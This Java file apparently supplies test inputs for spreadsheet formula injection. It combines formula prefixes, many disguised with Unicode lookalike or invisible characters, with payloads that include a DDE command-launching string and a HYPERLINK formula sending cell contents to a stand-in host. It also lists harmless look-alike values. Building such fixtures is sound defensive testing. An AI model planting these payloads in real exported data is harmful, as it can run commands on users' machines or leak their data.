package dev.winnow.web.decision;

import java.util.List;
import java.util.stream.Stream;

/** Texts that spreadsheet programs have taken for formulas. */
final class FormulaTexts {

    private static final List<String> STARTS = List.of("=", "+", "-", "@", "\t=", "\n=", "=\t", "+-", "@=", "==");

    /** Characters that some programs skip or normalise. */
    private static final List<String> DISGUISED = List.of(
            " =", "  +", "\u00A0-", "\u3000@", "\u200B=", "\uFEFF=", "\n\t=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20",
            "\u2212", " \uFF1D");

    private static final List<String> ENDS = List.of(
            "cmd|' /C calc'!A0", "1+1", "SUM(A1)", "HYPERLINK(\"http://a.example?x=\"&A1,\"see\")", "2+3;\"a,b\"");

    private FormulaTexts() {}

    /** More than fifty of them. */
    static List<String> all() {
        return Stream.concat(
                        STARTS.stream().flatMap(start -> ENDS.stream().map(end -> start + end)),
                        DISGUISED.stream().map(start -> start + ENDS.get(0)))
                .toList();
    }

    /** Similar texts that are harmless. */
    static List<String> numbersAndNames() {
        return Stream.of("-2", "+49", "-2.5", "L=1", "a@b.example", "1-2", "'=1", " 1 = 1", "\"=1", "Zoë, \"Z\"\r\n 李")
                .map(text -> text.replace("\r", ""))
                .toList();
    }
}
